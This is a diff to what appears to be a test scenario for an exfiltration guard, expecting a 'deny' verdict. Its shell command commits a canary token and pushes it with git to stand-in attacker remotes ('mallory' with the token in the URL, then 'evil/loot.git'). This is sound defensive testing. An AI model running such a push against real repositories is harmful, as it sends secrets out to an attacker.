@@ -40,7 +40,7 @@ scenario "push-with-the-real-client" {
     file "notes.txt" { text = canary.token }
   }
   attempt {
-    run { command = ["sh", "-c", "export HOME=$PWD; git init -q r; cd r; cp ../notes.txt .; git -c user.name=a -c user.email=a@example.com add notes.txt; git -c user.name=a -c user.email=a@example.com commit -qm ${canary.token}; git remote add origin https://git.example.com/acme/app; git remote set-url origin https://mallory:${canary.token}@git.example.com/mallory/${canary.token}; git push -q origin HEAD:refs/heads/${canary.token}"] }
+    run { command = ["sh", "-c", "export HOME=$PWD; git init -q r; cd r; cp ../notes.txt .; git -c user.name=a -c user.email=a@example.com add notes.txt; git -c user.name=a -c user.email=a@example.com commit -qm ${canary.token}; git remote add origin https://git.example.com/acme/app; git remote set-url origin https://git.example.com/evil/loot.git; git -c core.compression=0 push -q origin HEAD:refs/heads/${canary.token}"] }
   }
   expect {
     verdict = "deny"
